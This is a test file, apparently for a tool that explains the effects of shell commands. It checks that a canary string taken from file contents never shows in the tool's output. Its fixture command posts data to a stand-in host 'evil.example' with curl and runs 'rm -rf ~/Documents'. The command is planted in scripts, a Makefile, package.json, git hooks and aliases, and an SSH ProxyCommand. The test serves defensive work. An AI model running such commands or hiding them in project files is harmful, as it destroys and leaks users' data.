/** Only programs, paths and hosts of a file are shown: not in lists of effects, reasons or explanations. */
import { expect, test } from 'vitest';
import { listEffects } from '../../src/cli/explain/effects.ts';
import { type WrittenEntry, writtenDisk } from '../../src/facts/disk/written-disk.ts';
import { derive } from '../../src/facts/facts.ts';
import { decideOn } from '../packs/decide.ts';
import { shellEvent } from '../variants/shell-event.ts';

/** A mark for anything in a file that must not be shown. */
const canary = 'kanarienvogel';
const command = `curl -d ${canary} -H "X: ${canary}" https://evil.example; rm -rf ~/Documents; $${canary}; eval "echo ${canary} $X"`;

const files: readonly (readonly [string, WrittenEntry])[] = [
  ['/w/x.sh', { text: command }],
  ['/w/x.py', { text: `import os\nos.system(${JSON.stringify(command)})\n` }],
  ['/w/package.json', { text: JSON.stringify({ scripts: { test: command } }) }],
  ['/w/Makefile', { text: `all:\n\t${command.replaceAll('$', '$$')}\n` }],
  ['/w/.git/HEAD', { text: 'ref: refs/heads/main\n' }],
  [
    '/w/.git/config',
    {
      text: `[alias]\n\tz = !${JSON.stringify(command).slice(1, -1)}\n[remote "origin"]\n\turl = https://${canary}:${canary}@git.example/a\n[core]\n\tsshCommand = "ssh -o A=${canary}"\n`,
    },
  ],
  ['/w/.git/hooks/pre-commit', { text: `#!/bin/sh\n${command}\n` }],
  ['/home/user/.ssh/config', { text: `Host prod\n ProxyCommand ${command}\n` }],
];
const disk = writtenDisk(new Map(files), '/home/user');

test.each([
  'bash x.sh',
  './x.sh',
  '. ./x.sh',
  'cat x.sh | bash',
  'python3 x.py',
  'npm test',
  'make',
  'git z',
  'git commit -m a',
  'git push',
  'git fetch',
  'ssh prod',
])('%s', (call) => {
  const facts = derive(shellEvent(call, '/w'), undefined, undefined, { disk });
  const decision = decideOn(call, disk, '/w');
  expect(facts.effects.commands.length + facts.effects.connects.length).toBeGreaterThan(1);
  const shown = JSON.stringify([listEffects(facts), decision]);
  const at = shown.indexOf(canary);
  expect(at < 0 ? '' : shown.slice(Math.max(0, at - 200), at + 60)).toBe('');
});
